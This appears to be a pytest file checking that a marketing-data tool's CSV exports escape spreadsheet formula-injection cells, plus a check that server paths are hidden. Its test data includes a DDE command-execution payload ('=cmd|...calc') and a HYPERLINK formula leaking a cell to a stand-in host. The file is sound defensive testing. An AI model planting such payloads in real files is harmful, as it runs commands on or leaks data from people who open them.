"""CSV formula injection (OWASP): every CSV adpilot writes for a person to open in a spreadsheet
escapes text cells that start with = + - @ TAB CR, through each writer: ingest quarantine files,
the pipeline's plans and profile exports, the profile export CLI and the events quarantine CLI.
Real numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from adpilot.cli import main
from adpilot.data.csv_safe import FORMULA_START, escape_cell, unescape_cell, write_csv
from adpilot.data.ingest import ingest_file
from adpilot.pipeline import run, sample_dir, step_ingest, step_targeting
from adpilot.store import Store

DANGEROUS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1+1", "\tnote", "\r=1+1",
             '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "＝1+1"]


def cells(path) -> list[list[str]]:
    """Raw cells as a spreadsheet sees them (no pandas type inference)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")  # a real number: data, not a formula


def assert_no_formula(path) -> list[str]:
    """Every cell of the file is safe; returns the cells, flattened."""
    flat = [c for row in cells(path) for c in row]
    bad = [c for c in flat if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert not bad, f"{path.name}: cells a spreadsheet would run: {bad[:5]}"
    return flat


def test_escape_rule_text_only_and_reversible():
    frame = pd.DataFrame({"text": DANGEROUS, "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
                          "count": [-1, 2, 3, 4, 5, 6, 7, 8],
                          "mixed": [-2, "-2", None, [1], "ok", "春季上新", 3.5, "@x"]})
    buf = io.StringIO()
    write_csv(frame, buf)
    back = pd.read_csv(io.StringIO(buf.getvalue()), keep_default_na=False)
    assert back["text"].tolist() == ["'" + d for d in DANGEROUS]
    assert [unescape_cell(v) for v in back["text"]] == DANGEROUS
    assert back["amount"].tolist() == frame["amount"].tolist()  # still numbers, not '-1.5
    assert back["count"].dtype.kind == "i" and back["count"].iloc[0] == -1
    assert back["mixed"].tolist() == ["-2", "'-2", "", "[1]", "ok", "春季上新", "3.5", "'@x"]
    assert escape_cell("safe") == "safe" and escape_cell(-1) == -1 and unescape_cell("'x") == "'x"


def test_header_names_are_escaped():
    buf = io.StringIO()
    write_csv(pd.DataFrame({"=1+1": ["a"], "ok": ["b"]}), buf)
    assert buf.getvalue().splitlines()[0] == "'=1+1,ok"


@pytest.fixture
def poisoned_sample(tmp_path):
    """The built-in sample with customer ids, a region and bad values made dangerous."""
    data = tmp_path / "data"
    data.mkdir()
    ids = {"C001": "@SUM(1+1)", "C002": "=cmd|' /C calc'!A0", "C003": "+1", "C004": "-1+1"}
    for name in ("customers", "products", "reviews", "transactions", "events"):
        frame = pd.read_csv(sample_dir() / f"{name}.csv", dtype=str, keep_default_na=False)
        for col in ("customer_id", "user_id"):
            if col in frame:
                frame[col] = frame[col].replace(ids)
        if name == "customers":
            frame.loc[4, "region"] = '=HYPERLINK("http://example.invalid","x")'
            frame.loc[5, "age"] = "=1+1"  # not an age: quarantined with its value
        frame.to_csv(data / f"{name}.csv", index=False)  # the attacker's file, verbatim
    return data, ids


def test_ingest_quarantine_file_is_escaped(poisoned_sample, tmp_path):
    data, _ = poisoned_sample
    q = tmp_path / "q.csv"
    result = ingest_file("customers", data / "customers.csv", quarantine_path=q)
    assert result.quarantined >= 1 and q.exists()
    flat = assert_no_formula(q)
    assert "'=1+1" in flat  # the bad value is still shown, as text


def test_pipeline_outputs_are_escaped(poisoned_sample, tmp_path):
    """Ingest + delivery plan through the real pipeline, then profiles exported (CSV)."""
    from adpilot.profiling.build import export_profiles, profile_store

    data, ids = poisoned_sample
    out = tmp_path / "out"
    result = run(out, data_dir=data, llm="none",
                 steps=[("ingest", step_ingest), ("targeting", step_targeting)])
    plan = out / "targeting_plan.csv"
    assert result.outputs["targeting_plan"] == str(plan)
    flat = assert_no_formula(plan)
    assert {"'" + v for v in ids.values()} <= set(flat)
    assert_no_formula(out / "quarantine-customers.csv")
    back = pd.read_csv(plan)
    assert back["expected_value"].dtype.kind == "f"  # numbers stay numbers

    store = Store(f"sqlite:///{out / 'adpilot.db'}")
    prof = profile_store(store, embedder="lsa", k=2, sentiment="rating")
    paths = export_profiles(prof, out / "profiles")
    profiles_csv = assert_no_formula(out / "profiles" / "profiles.csv")
    assert "'@SUM(1+1)" in profiles_csv and "'=HYPERLINK(\"http://example.invalid\",\"x\")" in profiles_csv
    assert_no_formula(out / "profiles" / "segments.csv")
    assert set(paths) == {"profiles_csv", "profiles_parquet", "segments_csv"}

    # the export CLI writes the same stored profiles
    export = tmp_path / "export.csv"
    assert main(["profile", "export", str(export), "--db", store.url]) == 0
    assert "'=cmd|' /C calc'!A0" in assert_no_formula(export)
    store.dispose()


def test_events_quarantine_cli_is_escaped(tmp_path):
    db = f"sqlite:///{tmp_path / 'ev.db'}"
    Store(db).init().dispose()
    events = tmp_path / "events.csv"
    pd.DataFrame({"event_id": ["=1+1", "@e2"], "campaign": ["=cmd|' /C calc'!A0", "-x"],
                  "variant": ["A", "+B"], "user_id": ["u1", "\tu2"], "channel": ["email"] * 2,
                  "type": ["click", "=HYPERLINK(\"x\")"], "value": ["", ""],
                  "time": ["2025-03-03T09:17:05"] * 2}).to_csv(events, index=False)
    quarantine = tmp_path / "events-quarantine.csv"
    assert main(["events", "ingest", str(events), "--db", db, "--quarantine", str(quarantine),
                 "--json"]) == 0
    assert_no_formula(quarantine)
    values = [row[3] for row in cells(quarantine)[1:]]  # row, line, column, value, reason
    assert values[0].startswith("'=cmd|' /C calc'!A0") and values[1] == "'=HYPERLINK(\"x\")"


def test_ingest_runs_are_shown_without_server_paths():
    """The API overview and the dashboard show ingest runs through one function: file names,
    never the absolute path a CLI ingest logged (issue 17, item 9)."""
    from adpilot.data.ingest import public_run

    run = {"kind": "customers", "source": "/srv/exports/2026/customers.csv", "read": 3,
           "details": {"quarantine_file": "/root/.adpilot/quarantine/customers-x.csv"}}
    shown = public_run(run)
    assert shown["source"] == "customers.csv"
    assert shown["details"]["quarantine_file"] == "customers-x.csv"
    assert run["source"].startswith("/srv")  # the stored run is not changed
    assert public_run({"kind": "events", "source": None})["source"] == ""
